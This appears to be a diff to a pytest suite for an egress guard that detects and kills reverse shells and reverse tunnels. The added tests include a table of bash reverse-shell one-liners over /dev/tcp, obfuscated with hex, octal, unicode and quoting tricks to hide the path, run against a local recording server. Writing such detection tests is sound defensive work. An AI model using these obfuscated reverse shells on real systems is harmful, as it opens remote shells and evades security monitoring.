@@ -29,7 +29,7 @@ import pytest
 from .agentproc import GuardedCgroup
 from .netclient import parse_report
 from .netfixtures import RecordingServer, Spawned, require_tools
-from .tunnelstandins import DUP2_INNOCENT_NAME, REVERSE_SHELLS, STANDINS, Standins
+from .tunnelstandins import DUP2_INNOCENT_NAME, REVERSE_SHELLS, STANDINS, ReverseShell, Standins
 
 #: What a shell attached to the socket answers: the arithmetic proves it ran.
 SHELL_PROBE = b"echo EGMARK$((6*7))\n"
@@ -62,7 +62,9 @@ class Guarded(GuardedCgroup):
     def __init__(self, tmp: Path, action: str):
         policy = tmp / f"policy-{action}.yaml"
         policy.write_text(policy_text(action))
-        super().__init__(policy, "egress-guard-shells")
+        # the dup2/dup3 rows are about the hook at the call (opt-in);
+        # test_stdio_exec.py covers what the guard sees without it
+        super().__init__(policy, "egress-guard-shells", extra=["--syscall-hook"])
 
     def detection(self, kind: str, predicate, timeout: float = 10) -> dict:
         return self.agent.wait_for(lambda e: e.get("kind") == "detection"
@@ -192,6 +194,44 @@ def test_kill_ends_the_one_liner_before_it_connects(guarded, spawned, shell, tmp
     assert SHELL_ANSWER not in received and connections == [], connections
     assert event["action"] == "kill"
     assert event["detection"]["evidence"]["pattern"] == shell.pattern
+
+
+#: The bash one-liner with its /dev/tcp hidden by quoting, as a caller that is
+#: not a shell passes it: the argv anchors (quote pairs and quoted windows,
+#: guard/detect/vocabulary.py) still stop bash at exec.
+QUOTED_DEV_TCP = {
+    "ansi-c hex": "bash -i >& $'\\x2fdev\\x2ftcp\\x2f{host}\\x2f{port}' 0>&1",
+    "ansi-c octal": "bash -i >& $'\\057dev\\057tcp\\057{host}\\057{port}' 0>&1",
+    "ansi-c u": "bash -i >& $'\\u002fdev\\u002ftcp\\u002f{host}\\u002f{port}' 0>&1",
+    "locale": 'bash -i >& /dev/$"tcp"/{host}/{port} 0>&1',
+    "quotes inside": "bash -i >& /dev/t'c'p/{host}/{port} 0>&1",
+}
+
+
+@pytest.mark.parametrize("name", sorted(QUOTED_DEV_TCP))
+def test_kill_ends_a_quoted_one_liner_before_it_connects(guarded, spawned, name, tmp_path):
+    shell = ReverseShell(name, ("bash", "-c", QUOTED_DEV_TCP[name]), ("bash",), "dev_tcp_shell")
+    guard = guarded("kill")
+    with RecordingServer(greeting=SHELL_PROBE) as server:
+        # the agent stopped: it cannot win a race with bash, only the kernel's
+        # hold at exec keeps bash from connecting (its heartbeat stays fresh)
+        guard.agent.proc.send_signal(signal.SIGSTOP)
+        try:
+            proc = start_shell(guard, spawned, shell, server, tmp_path)
+            while_stopped = exited(proc, timeout=0.7)
+            reached_while_stopped = server.connections
+        finally:
+            guard.agent.proc.send_signal(signal.SIGCONT)
+        code = exited(proc, timeout=10)
+        event = guard.exec_detection(proc.pid)
+        time.sleep(0.2)
+        received = server.received()
+        connections = server.connections
+    assert while_stopped is None and reached_while_stopped == [], reached_while_stopped
+    assert code == SIGKILLED, (code, proc.stderr.read())
+    assert SHELL_ANSWER not in received and connections == [], connections
+    assert event["action"] == "kill"
+    assert event["detection"]["evidence"]["pattern"] == "dev_tcp_shell"
 
 
 @pytest.mark.parametrize("shell", REVERSE_SHELLS, ids=SHELL_IDS)
@@ -493,3 +533,46 @@ def test_a_plain_tcp_client_exchanges_data_and_is_not_flagged(guarded):
     assert (result.returncode, result.stdout.strip()) == (0, "pong"), result.stderr
     time.sleep(0.3)
     assert guard.detections_since(mark) == []
+
+
+# --------------------------------------------------------------------------
+# A reverse tunnel's data connection: the far end speaks first, with a request
+
+#: Connects, waits for the far end's first bytes without sending any, then
+#: answers them as a sandbox service would (the relay half of a tunnel client
+#: such as localtunnel's, under a name that says nothing).
+DATA_CONNECTION = r"""
+import socket, sys, time
+s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
+request = s.recv(4096)
+print("got", len(request), flush=True)
+time.sleep(1.5)                       # the sandbox service answering
+s.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello")
+time.sleep(3)
+"""
+REQUEST = b"GET /admin HTTP/1.1\r\nHost: me.own-server.example\r\n\r\n"
+
+
+@pytest.mark.parametrize("action", ["block", "log"])
+def test_a_server_that_sends_a_request_first_is_a_reverse_tunnel(guarded, spawned, action,
+                                                                  tmp_path):
+    guard = guarded(action)
+    program = tmp_path / "relay-helper.py"
+    program.write_text(DATA_CONNECTION)
+    with RecordingServer(greeting=REQUEST) as server:
+        proc = spawned.adopt(guard.cg.popen([sys.executable, str(program), str(server.port)],
+                                            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL))
+        event = guard.detection("tunnel_tool", lambda e: of_pid(proc.pid)(e)
+                                and e["detection"]["dialect"] == "reverse-http")
+        code = exited(proc, timeout=10)
+        received = server.received()
+    assert event["detection"]["evidence"]["signal"] == "request_from_server"
+    assert event["detection"]["evidence"]["host"] == "me.own-server.example"
+    if action == "block":
+        # the request reached the sandbox before the verdict: block kills the
+        # client, so the service's answer never goes back through the tunnel
+        assert event["action"] == "kill" and code == SIGKILLED
+        assert b"HTTP/1.1 200" not in received
+    else:
+        assert event["action"] == "log" and code == 0
+        assert b"HTTP/1.1 200 OK" in received
